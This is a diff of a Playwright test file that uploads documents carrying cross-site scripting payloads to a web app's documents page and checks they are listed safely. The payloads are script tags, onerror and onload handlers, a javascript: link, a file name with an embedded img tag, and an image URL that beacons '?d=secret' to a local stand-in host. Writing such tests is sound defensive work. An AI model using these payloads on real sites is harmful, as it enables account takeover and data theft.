@@ -13,8 +13,9 @@ EVIL = (
     f'<script>{TAKE_OVER}</script><img src=x onerror="{TAKE_OVER}"> The tide table of Nordhafen says ebb at nine [1] '
     f"[2](javascript:{TAKE_OVER}) ![x](http://127.0.0.1:59999/?d=secret) `[1]` <svg onload={TAKE_OVER}>"
 )
-NAME = f"<img src=x onerror={TAKE_OVER}>.txt"
-HTML = f"<title>&lt;img src=x onerror={TAKE_OVER}&gt;</title><h1>Tides</h1><p>{EVIL.replace('<', '&lt;')}</p><script>{TAKE_OVER}</script>"
+TITLE = f"<img src=x onerror={TAKE_OVER}>"
+NAME = f"{TITLE}.txt"
+HTML = f"<title>{TITLE.replace('<', '&lt;')}</title><h1>Tides</h1><p>{EVIL.replace('<', '&lt;')}</p><script>{TAKE_OVER}</script>"
 
 
 @pytest.fixture
@@ -24,7 +25,7 @@ def page(open_page: OpenPage) -> Page:
     sign_in(opened)
     opened.goto("/w/team/documents/")
     drop(opened, {NAME: EVIL.encode(), "tides.html": HTML.encode()})
-    expect(opened.get_by_role("table").get_by_text("Ready")).to_have_count(2)
+    expect(opened.get_by_role("row").filter(has_text=TITLE).filter(has_text="Ready")).to_have_count(2)
     return opened
 
 
